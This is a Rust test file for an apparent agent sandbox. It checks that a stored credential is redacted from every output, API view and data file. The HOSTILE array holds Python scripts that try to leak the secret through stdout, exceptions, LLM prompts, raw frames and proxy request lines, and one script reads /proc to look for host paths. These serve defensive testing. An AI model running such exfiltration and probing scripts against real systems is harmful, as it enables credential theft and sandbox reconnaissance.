//! No byte that came from the sandbox is stored or returned without passing the
//! redactor, and no plain value ever reaches the data directory in clear.
//!
//! Hostile scripts (the real sandbox, real Python, the real egress proxy and a real
//! upstream on 127.0.0.2) push a plain credential's value into every field they can
//! reach: stdout, stderr, the result, an exception, an `llm.complete` prompt and model,
//! a raw protocol frame with a request id of their choosing, and the egress proxy's
//! request line (method, host, path). Then every file of the data directory (the
//! database, its WAL, the key) is scanned for the value and its common encodings, and
//! every API view of the executions is scanned for the raw value.
#![allow(clippy::unwrap_used, clippy::expect_used)] // a panic is how a test fails

mod common;

use common::req;

use std::path::Path;
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::{Request, StatusCode};
use base64::Engine;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use airlock::app::App;

const VALUE: &str = "plainLeakProbe7Q2w9Zx4Vb";

async fn send(app: &App, req: Request<Body>) -> (StatusCode, Value) {
    common::send_json(app, req).await
}

struct Env {
    base: common::sandboxed::Sandboxed,
    /// The egress CA bundle's directory (outside /tmp, as the server requires).
    public: tempfile::TempDir,
    key_id: String,
    secret: String,
}

impl std::ops::Deref for Env {
    type Target = common::sandboxed::Sandboxed;
    fn deref(&self) -> &Self::Target {
        &self.base
    }
}

impl Env {
    async fn admin(&self, method: &str, uri: &str, body: Option<Value>) -> Value {
        let body = if method == "POST" {
            body.or(Some(json!({})))
        } else {
            body
        };
        let (s, v) = send(&self.app, req(method, uri, Some(&self.cookie), None, body)).await;
        assert!(s.is_success(), "{method} {uri}: {s} {v}");
        v
    }

    async fn agent(&self, method: &str, uri: &str, body: Option<Value>) -> (StatusCode, Value) {
        send(&self.app, req(method, uri, None, Some(&self.key_id), body)).await
    }

    async fn submit(&self, script: &str) -> String {
        let mut body = airlock::ids::signed_body(self.secret.as_bytes(), script);
        body["timeout"] = json!(30);
        let (s, v) = self.agent("POST", "/execute", Some(body)).await;
        assert_eq!(s, StatusCode::ACCEPTED, "{v}");
        v["execution_id"].as_str().unwrap().to_string()
    }

    /// Polls until the execution ends, answering every `llm.complete` with `answer`
    /// and checking each view the agent gets on the way. Returns the final view.
    async fn finish(&self, id: &str, answer: &str) -> Value {
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            let (s, v) = self
                .agent("GET", &format!("/executions/{id}?wait=20"), None)
                .await;
            assert_eq!(s, StatusCode::OK, "{v}");
            assert!(!v.to_string().contains(VALUE), "agent view leaks: {v}");
            match v["status"].as_str().unwrap() {
                "completed" | "error" | "timeout" => return v,
                "awaiting_llm" => {
                    let admin = self
                        .admin("GET", &format!("/api/admin/executions/{id}"), None)
                        .await;
                    assert!(
                        !admin.to_string().contains(VALUE),
                        "admin view leaks: {admin}"
                    );
                    let rid = v["llm_request"]["request_id"].clone();
                    let (s, r) = self
                        .agent(
                            "POST",
                            &format!("/executions/{id}/respond"),
                            Some(json!({"response": answer, "request_id": rid})),
                        )
                        .await;
                    assert_eq!(s, StatusCode::OK, "{r}");
                }
                _ => {}
            }
            assert!(Instant::now() < deadline, "never finished: {v}");
        }
    }
}

async fn start(upstream_port: u16) -> Option<Env> {
    let dir = tempfile::tempdir().unwrap();
    let mut c = common::sandboxed_config(dir.path());
    let public = common::sandbox_visible_tempdir("airlock-leaks-ca");
    c.egress_ca_dir = Some(public.path().join("ca"));
    let base = common::sandboxed::Sandboxed::start_in(dir, c).await?;
    let (pid, key) = base.locked_profile("leaks", &[("API_TOKEN", VALUE)]).await;
    base.set_hosts(&pid, json!([format!("127.0.0.2:{upstream_port}")]))
        .await;
    let (key_id, secret) = key.split_once(':').unwrap();
    Some(Env {
        key_id: key_id.to_string(),
        secret: secret.to_string(),
        base,
        public,
    })
}

/// An HTTP upstream that answers every request with a short body.
async fn upstream() -> u16 {
    let l = tokio::net::TcpListener::bind(("127.0.0.2", 0))
        .await
        .unwrap();
    let port = l.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            tokio::spawn(async move {
                let mut buf = vec![0u8; 65536];
                let _ = s.read(&mut buf).await;
                let _ = s
                    .write_all(
                        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                    )
                    .await;
                let _ = s.shutdown().await;
            });
        }
    });
    port
}

/// The value and the encodings the redactor promises to catch.
fn forms() -> Vec<(String, Vec<u8>)> {
    let b64 = base64::engine::general_purpose::STANDARD.encode(VALUE);
    let hex: String = VALUE.bytes().map(|b| format!("{b:02x}")).collect();
    let reversed: String = VALUE.chars().rev().collect();
    vec![
        ("raw".into(), VALUE.as_bytes().to_vec()),
        (
            "base64".into(),
            b64.trim_end_matches('=').as_bytes().to_vec(),
        ),
        ("hex".into(), hex.into_bytes()),
        ("reversed".into(), reversed.into_bytes()),
    ]
}

fn scan_dir(dir: &Path, found: &mut Vec<String>) {
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            scan_dir(&path, found);
            continue;
        }
        let Ok(bytes) = std::fs::read(&path) else {
            continue;
        };
        for (name, form) in forms() {
            if bytes.windows(form.len()).any(|w| w == form.as_slice()) {
                found.push(format!("{} holds the {name} value", path.display()));
            }
        }
    }
}

const HOSTILE: &[&str] = &[
    // Output, in clear and encoded.
    r#"
import base64, sys
v = settings.get("API_TOKEN")
print(v, v.encode().hex(), base64.b64encode(v.encode()).decode(), v[::-1])
print(v, file=sys.stderr)
set_result({"v": v, "nested": [v, {"k": v}]})
"#,
    // An exception carrying the value.
    r#"
raise ValueError("token is " + settings.get("API_TOKEN"))
"#,
    // The value as prompt and as model name.
    r#"
v = settings.get("API_TOKEN")
a = llm.complete("use " + v, model=v)
set_result(a)
"#,
    // A raw frame with the value as request id.
    r#"
import airlock
airlock._channel.send({"type": "llm_request", "request_id": settings.get("API_TOKEN"), "prompt": "hi", "model": "default"})
set_result(airlock._channel.recv().get("response"))
"#,
    // The egress request line: method, host and path.
    r#"
import os, socket, urllib.request
v = settings.get("API_TOKEN")
def raw(line):
    c = socket.create_connection(("127.0.0.1", int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])), timeout=15)
    c.sendall(line.encode())
    data = b""
    while True:
        chunk = c.recv(65536)
        if not chunk:
            break
        data += chunk
    return data.split(b"\r\n", 1)[0].decode()
out = {}
out["method"] = raw(v + " http://127.0.0.2:PORT/ HTTP/1.1\r\nHost: 127.0.0.2:PORT\r\nConnection: close\r\n\r\n")
out["path"] = raw("GET http://127.0.0.2:PORT/" + v + " HTTP/1.1\r\nHost: 127.0.0.2:PORT\r\nConnection: close\r\n\r\n")
out["host"] = raw("GET http://" + v + ".invalid/ HTTP/1.1\r\nHost: " + v + ".invalid\r\nConnection: close\r\n\r\n")
set_result(out)
"#,
];

#[tokio::test(flavor = "multi_thread")]
async fn hostile_scripts_leave_no_plain_value_in_any_view_or_file() {
    let port = upstream().await;
    let Some(env) = start(port).await else { return };
    let mut ids = Vec::new();
    for script in HOSTILE {
        let script = script.replace("PORT", &port.to_string());
        let id = env.submit(&script).await;
        // The answer carries the value too: it is the agent's, but is stored redacted.
        let v = env.finish(&id, &format!("answer {VALUE}")).await;
        assert_ne!(v["status"], json!("timeout"), "{v}");
        ids.push(id);
    }
    // Each attack did reach its field (else the scan below proves nothing).
    let views: Vec<Value> = {
        let mut out = Vec::new();
        for id in &ids {
            out.push(
                env.admin("GET", &format!("/api/admin/executions/{id}"), None)
                    .await,
            );
        }
        out
    };
    let all = Value::from(views.clone()).to_string();
    assert!(!all.contains(VALUE), "an admin view leaks: {all}");
    assert!(
        views[0]["stdout"]
            .as_str()
            .unwrap()
            .contains("[REDACTED:API_TOKEN]"),
        "{}",
        views[0]
    );
    assert!(
        views[1]["error"]
            .as_str()
            .unwrap()
            .contains("[REDACTED:API_TOKEN]"),
        "{}",
        views[1]
    );
    assert_eq!(
        views[3]["result"],
        json!("answer [REDACTED:API_TOKEN]"),
        "{}",
        views[3]
    );
    let egress = views[4]["egress"].as_array().expect("egress log");
    assert_eq!(egress.len(), 3, "{egress:?}");
    assert_eq!(egress[0]["method"], json!("[non-standard method]"));
    assert!(egress[1]["path"]
        .as_str()
        .unwrap()
        .contains("[REDACTED:API_TOKEN]"));
    let list = env.admin("GET", "/api/admin/executions", None).await;
    assert!(!list.to_string().contains(VALUE), "{list}");

    // Everything reached the disk; then no form of the value may be in any file.
    drop(views);
    let dir = env.dir.path().to_path_buf();
    let mut found = Vec::new();
    scan_dir(&dir, &mut found);
    assert!(found.is_empty(), "{found:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_learns_no_host_path_from_proc() {
    let port = upstream().await;
    let Some(env) = start(port).await else { return };
    let script = r#"
import os
out = {"mountinfo": open("/proc/self/mountinfo").read()}
def cmdline(p):
    try:
        return open("/proc/%s/cmdline" % p, "rb").read().decode("latin-1")
    except OSError as e:
        return type(e).__name__
out["cmdline"] = [cmdline(p) for p in ("1", "self")]
out["env"] = {k: v for k, v in os.environ.items() if "CERT" in k or "CA_BUNDLE" in k}
out["bundle_readable"] = os.path.exists(out["env"].get("SSL_CERT_FILE", "/nonexistent"))
set_result(out)
"#;
    let id = env.submit(script).await;
    let v = env.finish(&id, "").await;
    assert_eq!(v["status"], json!("completed"), "{v}");
    let r = &v["result"];
    let text = r.to_string();
    let data_dir = std::fs::canonicalize(env.dir.path()).unwrap();
    if std::env::var("AIRLOCK_TEST_SANDBOX_TIER").as_deref() == Ok("container") {
        // No mounts in the container tier: the CA bundle is seen at its host path
        // (outside the data directory), the data directory is named nowhere, and
        // other processes' command lines are out of reach.
        let bundle = r["env"]["SSL_CERT_FILE"].as_str().unwrap_or_default();
        assert!(
            bundle.starts_with(&*env.public.path().to_string_lossy())
                && bundle.ends_with("/ca-bundle.pem"),
            "{text}"
        );
        assert_eq!(r["bundle_readable"], json!(true), "{text}");
        assert_eq!(r["cmdline"][0], json!("PermissionError"), "{text}");
        assert!(!text.contains(&*data_dir.to_string_lossy()), "{text}");
        return;
    }
    for host in [
        data_dir.to_string_lossy().to_string(),
        env.dir.path().to_string_lossy().to_string(),
        env.public.path().to_string_lossy().to_string(),
        env!("CARGO_BIN_EXE_airlock").to_string(),
    ] {
        assert!(!text.contains(&host), "{host} is visible: {text}");
    }
    // The CA bundle is still there for HTTPS clients, at its neutral path.
    assert_eq!(
        r["env"]["SSL_CERT_FILE"],
        json!("/airlock/ca/ca-bundle.pem"),
        "{text}"
    );
    assert_eq!(r["bundle_readable"], json!(true), "{text}");
}
